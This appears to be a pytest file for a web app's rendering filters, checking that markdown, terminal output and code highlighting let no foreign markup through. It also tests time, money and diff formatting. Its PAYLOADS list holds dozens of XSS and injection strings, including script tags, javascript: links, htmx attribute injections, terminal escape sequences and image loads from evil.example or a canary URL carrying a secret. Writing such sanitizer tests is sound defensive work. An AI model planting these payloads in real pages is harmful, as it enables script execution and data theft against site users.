"""The words of the templates, and that no foreign text becomes markup of ours."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from markupsafe import Markup

from app import web_diff, web_filters

DAY = 86_400_000
NOW = 1_795_000_000_000

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://127.0.0.1:9/canary?d=secret'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x>#x'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=csrf_token></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<div hx-get='/sessions' hx-trigger='load'>x</div>",
    "<div data-hx-post='/approvals/per_1' data-hx-trigger='load'>x</div>",
    "<div hx-on:click='alert(1)'>x</div>",
    "<div hx-sse:connect='/stream'>x</div>",
    "<hx-partial hx-target='#main'>owned</hx-partial>",
    "<template hx type='partial' hx-target='body'>owned</template>",
    "<div id='ask-per_1' data-ask='per_1'>x</div>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<p class='btn primary'>x</p>",
    "<!-- comment --><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](/approvals/per_1?answer=once)",
    "[x](//evil.example)",
    "[x](https://ok.example 'a\" onmouseover=\"alert(1)')",
    '[x](https://ok.example" onmouseover="alert(1))',
    "![x](http://127.0.0.1:9/canary?d=secret)",
    "![x](javascript:alert(1))",
    '![a](https://e.example/x.png" onerror="alert(1))',
    "<javascript:alert(1)>",
    '<https://ok.example/"onclick=alert(1)>',
    "[ref]\n\n[ref]: javascript:alert(1)",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```js onload=alert(1)\n`</code></pre><script>alert(1)</script>`\n```",
    "`<script>alert(1)</script>`",
    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | 2 |",
    "# <script>alert(1)</script>",
    "- <script>alert(1)</script>\n- [x](javascript:alert(1))",
    "> <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x00<scr\x00ipt>alert(1)</script>",
    "\x1b[31m<script>alert(1)</script>\x1b[0m",
    "\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07",
    "\x1b]52;c;ZXZpbA==\x07",
    '\x1b[1;31"onmouseover=alert(1)m',
    "\u202e<script>alert(1)</script>\u202c",
    "</pre></article><script>alert(1)</script>",
]
TAGS = web_filters.TAGS
ATTRIBUTES = {"href", "title", "rel", "class", "start"}


class Seen(HTMLParser):
    """Every tag and attribute that a browser would make of the markup."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def tags_in(markup: str) -> list[tuple[str, dict[str, str | None]]]:
    seen = Seen()
    seen.feed(markup)
    seen.close()
    return seen.found


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_markdown_lets_nothing_through(payload):
    for tag, attributes in tags_in(web_filters.markdown(payload)):
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES
        assert attributes.get("class") in (None, "kw", "str", "num", "fn", "com")
        assert (attributes.get("href") or "https:").lower().startswith(("https:", "http:", "mailto:"))


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_terminal_output_is_text_with_colour_classes(payload):
    markup = web_filters.sgr(payload)
    for tag, attributes in tags_in(markup):
        assert tag == "span"
        assert set(attributes) == {"class"}
        assert re.fullmatch(r"(ctl|sgr-[a-z]+)( sgr-[a-z]+)*", attributes["class"] or "")
    assert "\x1b" not in markup
    assert "\x00" not in markup
    assert "\u202e" not in markup


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_code_is_text_with_five_classes(payload):
    for name in ("a.html", "a.py", "a.js", "unknown"):
        for tag, attributes in tags_in(web_filters.highlight(payload, name)):
            assert tag == "span"
            assert attributes["class"] in {"kw", "str", "num", "fn", "com"}


def test_blocks_add_up_to_the_whole():
    text = "# One\n\ntwo\n\n- a\n- b\n\n```python\nx = 1\n```\n\nlast [r]\n\n[r]: https://r.example"
    assert Markup("").join(web_filters.blocks(text)) == web_filters.markdown(text)


def test_a_growing_text_keeps_its_earlier_blocks():
    before = web_filters.blocks("one\n\ntwo\n\nthr")
    after = web_filters.blocks("one\n\ntwo\n\nthree\n\nfour")
    assert after[: len(before) - 1] == before[:-1]


def test_an_image_becomes_a_link_that_shows_its_host():
    markup = web_filters.markdown("![chart](https://evil.example/x.png?d=1)")
    assert "<img" not in markup
    assert "chart (image at evil.example)" in markup


def test_links_lead_out_without_telling_from_where():
    assert 'rel="noopener noreferrer nofollow"' in web_filters.markdown("[x](https://ok.example)")


def test_bidi_controls_are_shown():
    assert "[U+202E]" in web_filters.markdown("a\u202eb")
    assert web_filters.sgr("a\u202eb") == 'a<span class="ctl">U+202E</span>b'


def test_an_unended_sequence_hides_no_text():
    assert web_filters.sgr("\x1bPall of this") == "all of this"
    assert web_filters.sgr("\x1b]0;all of this") == "0;all of this"


def test_a_progress_line_shows_its_last_state():
    assert web_filters.sgr("10%\r50%\r100%\r\ndone") == "100%\ndone"


def test_colours_become_classes_and_end():
    markup = web_filters.sgr("\x1b[1;31mE\x1b[0m ok \x1b[38;5;196mx\x1b[39m")
    assert markup == '<span class="sgr-b sgr-red">E</span> ok x'


def test_spans_are_capped():
    assert web_filters.sgr("\x1b[31mx\x1b[0m" * 30_000).count("<span") <= web_filters.SPAN_CAP + 1


@pytest.mark.parametrize(
    ("age", "words", "short"),
    [
        (0, "now", "now"),
        (9_000, "9 s ago", "9 s"),
        (120_000, "2 min ago", "2 min"),
        (5 * 3_600_000, "5 h ago", "5 h"),
        (30 * 3_600_000, "yesterday", "1 d"),
        (3 * DAY, "Sun", "3 d"),
        (40 * DAY, "9 Oct", "9 Oct"),
        (400 * DAY, "14 Oct 2025", "14 Oct 2025"),
    ],
)
def test_times_are_told_in_words(age, words, short):
    assert web_filters.ago(NOW - age, NOW) == words
    assert web_filters.ago(NOW - age, NOW, short=True) == short


@pytest.mark.parametrize(
    ("span", "words"),
    [(200, "0.2 s"), (38_000, "38 s"), (252_000, "4 min 12 s"), (240_000, "4 min"), (3_780_000, "1 h 3 min")],
)
def test_durations_are_told_in_words(span, words):
    assert web_filters.duration(span) == words


def test_figures_have_their_forms():
    assert web_filters.money(0.84) == "$0.84"
    assert web_filters.money(1234.5) == "$1,234.50"
    assert web_filters.money(0) == "$0.00"
    assert web_filters.money(0.0012) == "$0.0012"
    assert web_filters.count(61_204) == "61,204"
    assert web_filters.size(41_000_000) == "41 MB"
    assert web_filters.size(1_234) == "1.2 kB"
    assert web_filters.plural(1, "file") == "1 file"
    assert web_filters.plural(0, "match", "matches") == "0 matches"
    assert Markup(web_filters.lines(9, 4)).striptags() == "+9 \N{MINUS SIGN}4"


def test_unknown_is_a_dash():
    words = [web_filters.ago, web_filters.duration, web_filters.money, web_filters.count, web_filters.size]
    assert {word(None) for word in words} == {"\N{EM DASH}"}


def test_a_path_never_loses_its_file():
    assert web_filters.short_path("tests/unit/billing/test_proration.py", 30) == "…/billing/test_proration.py"
    assert web_filters.short_path("a/" + "b" * 60 + ".py", 20) == "…/" + "b" * 60 + ".py"
    assert web_filters.short_path("a.py", 20) == "a.py"


PATCH = """--- a/x.py
+++ b/x.py
@@ -3,3 +3,4 @@ def f():
 a = 1
-due = total(new)
+# why
+due = total(old)
 return due
\\ No newline at end of file
"""


def test_a_diff_has_numbers_signs_and_word_marks():
    (hunk,) = web_diff.hunks(PATCH, "x.py")
    assert hunk.place == "def f():"
    assert [(row.sign, row.old, row.new) for row in hunk.rows] == [
        (" ", 3, 3),
        ("-", 4, None),
        ("+", None, 4),
        ("+", None, 5),
        (" ", 5, 6),
    ]
    marked = ["".join(piece.text for piece in row.pieces if piece.marked) for row in hunk.rows]
    assert marked == ["", "new", "", "old", ""]


def test_a_diffs_pieces_add_up_to_its_lines():
    for hunk in web_diff.hunks(PATCH, "x.py"):
        for row in hunk.rows:
            assert "".join(piece.text for piece in row.pieces) == row.text


@pytest.mark.parametrize(
    ("text", "words", "shown"),
    [
        ("Fix rounding", "ROUN", "Fix <mark>roun</mark>ding"),
        ("a.b and axb", "a.b", "<mark>a.b</mark> and axb"),
        ("one two", "two on", "<mark>on</mark>e <mark>two</mark>"),
        ("<b>", "b", "&lt;<mark>b</mark>&gt;"),
        ("Fix", "", "Fix"),
    ],
)
def test_what_was_searched_for_is_marked(text: str, words: str, shown: str) -> None:
    assert web_filters.marked(text, words) == Markup(shown)


def test_a_documents_headings_stand_below_the_pages_own():
    assert web_filters.document("# One\n\n###### Six\n\n<b>") == "<h2>One</h2>\n<h6>Six</h6>\n<p>&lt;b&gt;</p>\n"
